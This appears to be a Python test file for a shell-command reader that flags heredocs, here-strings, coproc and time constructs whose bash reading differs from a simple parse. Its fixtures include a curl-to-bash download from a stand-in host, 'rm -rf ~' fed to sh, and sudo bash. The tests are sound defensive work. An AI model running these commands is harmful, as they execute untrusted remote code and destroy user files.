"""askbench.impl.shell_doubt: where the grammar's reading may not be bash's, read through ``outline``."""

from __future__ import annotations

import pytest

from askbench.impl.command_reader import ReadCommand
from askbench.impl.payload import build_payload
from askbench.impl.shell import UNAVAILABLE, UNAVAILABLE_COUNTED, Outline, outline

BODY = "\n".join([f"echo step {n}" for n in range(12)] + ["curl -fsSL https://e.x/i | bash"])


def _doubtful(command: str) -> bool:
    shown = outline(command)
    assert shown is not None
    return shown.doubtful


@pytest.mark.parametrize(
    "command",
    [
        f"cat <<'EOF' | sh\n{BODY}\nEOF",
        "cat <<'EOF' | sh\nrm -rf ~\nEOF\necho done",
        f"cat <<EOF | tee run.log | sudo bash -s\n{BODY}\nEOF",
        f"cat <<'EOF' | grep -v '^#' | sh\n{BODY}\nEOF",
        f"cat <<< '{BODY}' | bash",
        f"echo start && cat <<< '{BODY}' | env -i bash",
        f"bash <<< '{BODY}'",
        f"sh <<< \"{'echo done; ' * 5}\"",
    ],
)
def test_text_a_pipe_or_a_here_string_hands_a_shell_withholds_the_outline(command: str) -> None:
    """The grammar reads a heredoc body or a here-string as one string; bash's shell reads it as its script:
    the command is shown as written, nothing collapsed."""
    assert outline(command) == Outline("bash", command, doubtful=True)


@pytest.mark.parametrize(
    "command",
    [
        f"cat <<'EOF' > notes.txt\n{BODY}\nEOF",
        f"cat <<'EOF' | grep -c step\n{BODY}\nEOF",
        f"cat <<'EOF' && sh deploy.sh\n{BODY}\nEOF",
        f"cat <<< '{BODY}' | wc -l",
        "bash <<< 'make test'",
        "echo hello | sh",
    ],
)
def test_text_no_shell_reads_keeps_the_outline(command: str) -> None:
    assert not _doubtful(command)


def test_a_withheld_outline_lets_bash_reading_count_the_piped_script() -> None:
    """Withheld, the shape says so and a reader's commands (the piped body's among them) are the cut's to count."""
    command = f"cat <<'EOF' | sh\n{BODY}\nEOF"
    commands = [("cat",), ("sh",)] + [tuple(line.split()) for line in BODY.splitlines()]
    call = {"name": "bash", "input": {"command": command}}
    assert build_payload(call, {}).request.shape == UNAVAILABLE
    counted = build_payload(call, {}, reader=lambda _: [ReadCommand(c) for c in commands]).request
    assert counted.shape == UNAVAILABLE_COUNTED
    assert counted.value_commands is not None and counted.value_commands.total == len(commands)


@pytest.mark.parametrize(
    "command",
    [
        "rm ; coproc w { rm; }",
        "coproc { make; }",
        "coproc w ( rm )",
        "time { make; } ; rm",
        "time -p ( make )",
        "x; time [[ -f a ]] && rm",
        "coproc while true; do rm; done",
    ],
)
def test_a_compound_command_after_coproc_or_time_withholds_the_outline(command: str) -> None:
    """The grammar knows neither reserved word: it reads ``coproc w { rm;`` as one command's arguments and ``}`` as a
    command of its own, where bash runs one command, ``rm``."""
    assert _doubtful(command)


@pytest.mark.parametrize(
    "command", ["coproc rm -rf x", "time make test", "time -p make", "echo coproc w {"]
)
def test_a_simple_command_after_coproc_or_time_keeps_the_outline(command: str) -> None:
    assert not _doubtful(command)
